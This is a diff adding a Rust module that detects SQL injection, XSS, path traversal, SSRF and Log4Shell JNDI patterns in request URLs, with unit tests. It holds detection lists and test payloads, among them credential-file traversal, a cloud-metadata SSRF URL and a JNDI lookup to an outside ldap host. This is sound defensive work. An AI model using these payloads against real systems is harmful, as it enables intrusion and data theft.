@@ -1,0 +1,301 @@
+//! Attack patterns in request URLs (`vigil.web_attack`).
+//!
+//! The URL is cut to a byte budget, percent-decoded (twice, for doubly
+//! encoded probes; `+` as a space in the query) and searched ASCII
+//! case-insensitively for short, specific patterns. Work per URL is
+//! bounded by the budget times the pattern count; a URL without `%` or
+//! `+` is searched in place, without allocating.
+
+use std::borrow::Cow;
+use std::net::IpAddr;
+
+/// The kind of attack a URL pattern points to.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum AttackClass {
+    /// SQL injection.
+    Sqli,
+    /// Cross-site scripting.
+    Xss,
+    /// Path traversal / local file inclusion.
+    Traversal,
+    /// Server-side request forgery: a URL to an internal or metadata address.
+    Ssrf,
+    /// Log4Shell-style JNDI lookups.
+    Jndi,
+}
+
+impl AttackClass {
+    /// `sqli`, `xss`, `path_traversal`, `ssrf`, `jndi`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            AttackClass::Sqli => "sqli",
+            AttackClass::Xss => "xss",
+            AttackClass::Traversal => "path_traversal",
+            AttackClass::Ssrf => "ssrf",
+            AttackClass::Jndi => "jndi",
+        }
+    }
+}
+
+const SQLI: &[&str] = &[
+    "union select",
+    "union all select",
+    "union/**/select",
+    "' or '1'='1",
+    "' or 1=1",
+    "\" or 1=1",
+    " or 1=1--",
+    "' or ''='",
+    "sleep(",
+    "benchmark(",
+    "waitfor delay",
+    "information_schema",
+    "xp_cmdshell",
+    "extractvalue(",
+    "updatexml(",
+    "pg_sleep",
+    "';--",
+    "' --",
+    "'--",
+];
+
+const XSS: &[&str] = &[
+    "<script",
+    "</script",
+    "javascript:",
+    "onerror=",
+    "onload=",
+    "onmouseover=",
+    "<svg",
+    "<iframe",
+    "<img src",
+    "document.cookie",
+    "alert(",
+];
+
+const TRAVERSAL: &[&str] = &[
+    "../",
+    "..\\",
+    "/etc/passwd",
+    "/etc/shadow",
+    "c:\\windows",
+    "win.ini",
+    "boot.ini",
+    "/proc/self/",
+    "php://",
+    "file://",
+];
+
+const JNDI: &[&str] = &["${jndi:"];
+
+/// Host names and URL schemes that only make sense as SSRF targets.
+const SSRF: &[&str] = &[
+    "169.254.169.254",
+    "metadata.google.internal",
+    "100.100.100.200",
+    "gopher://",
+    "dict://",
+];
+
+/// `s` cut to at most `max` bytes at a character boundary.
+pub fn floor_char(s: &str, max: usize) -> &str {
+    if s.len() <= max {
+        return s;
+    }
+    let mut i = max;
+    while !s.is_char_boundary(i) {
+        i -= 1;
+    }
+    &s[..i]
+}
+
+/// Whether `hay` contains `needle` (given in lowercase), ASCII
+/// case-insensitively.
+pub fn contains_ci(hay: &[u8], needle: &[u8]) -> bool {
+    if needle.is_empty() {
+        return true;
+    }
+    if hay.len() < needle.len() {
+        return false;
+    }
+    let first = needle[0];
+    (0..=hay.len() - needle.len()).any(|i| {
+        hay[i].to_ascii_lowercase() == first
+            && hay[i..i + needle.len()]
+                .iter()
+                .zip(needle)
+                .all(|(a, b)| a.to_ascii_lowercase() == *b)
+    })
+}
+
+fn hex(b: u8) -> Option<u8> {
+    match b {
+        b'0'..=b'9' => Some(b - b'0'),
+        b'a'..=b'f' => Some(b - b'a' + 10),
+        b'A'..=b'F' => Some(b - b'A' + 10),
+        _ => None,
+    }
+}
+
+/// Percent-decodes `s` (and `+` to a space); borrows when there is
+/// nothing to decode. Invalid escapes stay as written.
+pub fn percent_decode(s: &[u8]) -> Cow<'_, [u8]> {
+    if !s.iter().any(|b| *b == b'%' || *b == b'+') {
+        return Cow::Borrowed(s);
+    }
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        match s[i] {
+            b'%' if i + 2 < s.len() => match (hex(s[i + 1]), hex(s[i + 2])) {
+                (Some(h), Some(l)) => {
+                    out.push(h * 16 + l);
+                    i += 3;
+                    continue;
+                }
+                _ => out.push(b'%'),
+            },
+            b'+' => out.push(b' '),
+            b => out.push(b),
+        }
+        i += 1;
+    }
+    Cow::Owned(out)
+}
+
+/// Whether a host (from `scheme://HOST…` inside a query) is internal:
+/// loopback, private, link-local, unspecified, `localhost`.
+fn internal_host(h: &[u8]) -> bool {
+    let end = h
+        .iter()
+        .position(|b| matches!(b, b'/' | b'?' | b'&' | b'#' | b'\\' | b' ' | b'@'))
+        .unwrap_or(h.len());
+    let h = &h[..end];
+    let Ok(h) = std::str::from_utf8(h) else {
+        return false;
+    };
+    let host = if let Some(rest) = h.strip_prefix('[') {
+        rest.split(']').next().unwrap_or("")
+    } else {
+        h.rsplit_once(':').map_or(h, |(a, p)| {
+            if p.bytes().all(|b| b.is_ascii_digit()) {
+                a
+            } else {
+                h
+            }
+        })
+    };
+    if host.eq_ignore_ascii_case("localhost") || host.to_ascii_lowercase().ends_with(".localhost") {
+        return true;
+    }
+    match host.parse::<IpAddr>() {
+        Ok(IpAddr::V4(v4)) => {
+            v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified()
+        }
+        Ok(IpAddr::V6(v6)) => v6.is_loopback() || v6.is_unspecified(),
+        Err(_) => false,
+    }
+}
+
+fn first_hit(hay: &[u8], list: &[&'static str]) -> Option<&'static str> {
+    list.iter()
+        .copied()
+        .find(|n| contains_ci(hay, n.as_bytes()))
+}
+
+fn classify(u: &[u8]) -> Option<(AttackClass, &'static str)> {
+    if let Some(p) = first_hit(u, JNDI) {
+        return Some((AttackClass::Jndi, p));
+    }
+    if let Some(p) = first_hit(u, SQLI) {
+        return Some((AttackClass::Sqli, p));
+    }
+    if let Some(p) = first_hit(u, XSS) {
+        return Some((AttackClass::Xss, p));
+    }
+    if let Some(p) = first_hit(u, TRAVERSAL) {
+        return Some((AttackClass::Traversal, p));
+    }
+    // SSRF: metadata addresses anywhere; internal hosts only as a URL
+    // inside the query (a parameter the server may fetch).
+    if let Some(p) = first_hit(u, SSRF) {
+        return Some((AttackClass::Ssrf, p));
+    }
+    let q = u.iter().position(|b| *b == b'?')?;
+    let query = &u[q..];
+    let mut i = 0;
+    while let Some(off) = query[i..].windows(3).position(|w| w == b"://") {
+        let at = i + off + 3;
+        if internal_host(&query[at..]) {
+            return Some((AttackClass::Ssrf, "internal URL in query"));
+        }
+        i = at;
+    }
+    None
+}
+
+/// The attack class and pattern found in a request URL (path and query),
+/// looking at its first `max_bytes` bytes.
+pub fn inspect(url: &str, max_bytes: usize) -> Option<(AttackClass, &'static str)> {
+    let u = floor_char(url, max_bytes).as_bytes();
+    let once = percent_decode(u);
+    if let Some(hit) = classify(&once) {
+        return Some(hit);
+    }
+    if once.contains(&b'%') {
+        // Doubly encoded (`%252e%252e%252f`).
+        let twice = percent_decode(&once);
+        if matches!(twice, Cow::Owned(_)) {
+            return classify(&twice);
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn decodes() {
+        assert_eq!(&*percent_decode(b"/a%2e%2E%2fb+c"), b"/a../b c");
+        assert_eq!(&*percent_decode(b"100%"), b"100%");
+        assert_eq!(&*percent_decode(b"%4"), b"%4");
+        assert_eq!(&*percent_decode(b"%41"), b"A");
+        assert!(matches!(percent_decode(b"/plain"), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn classes() {
+        let c = |u| inspect(u, 4096).map(|h| h.0);
+        assert_eq!(
+            c("/item?id=1%20UNION%20SELECT%20password"),
+            Some(AttackClass::Sqli)
+        );
+        assert_eq!(c("/q?s=%3Cscript%3Ealert(1)"), Some(AttackClass::Xss));
+        assert_eq!(
+            c("/static/..%2f..%2fetc/passwd"),
+            Some(AttackClass::Traversal)
+        );
+        assert_eq!(c("/x?f=%252e%252e%252fetc"), Some(AttackClass::Traversal));
+        assert_eq!(
+            c("/fetch?url=http://169.254.169.254/latest/meta-data/"),
+            Some(AttackClass::Ssrf)
+        );
+        assert_eq!(
+            c("/fetch?url=http%3A%2F%2F10.0.0.5%3A8080%2Fadmin"),
+            Some(AttackClass::Ssrf)
+        );
+        assert_eq!(c("/fetch?url=http://localhost/"), Some(AttackClass::Ssrf));
+        assert_eq!(c("/fetch?url=http://[::1]:80/"), Some(AttackClass::Ssrf));
+        assert_eq!(c("/a?x=${jndi:ldap://e.com/a}"), Some(AttackClass::Jndi));
+        // Benign.
+        assert_eq!(c("/fetch?url=https://example.com/x"), None);
+        assert_eq!(c("/index.html?q=select+a+union+member"), None);
+        assert_eq!(c("/localhost/page"), None);
+        assert_eq!(c("/search?q=100%25+off"), None);
+        // Past the budget: not inspected.
+        let long = format!("/{}?id=1 union select 1", "a".repeat(200));
+        assert_eq!(inspect(&long, 100), None);
+    }
+}
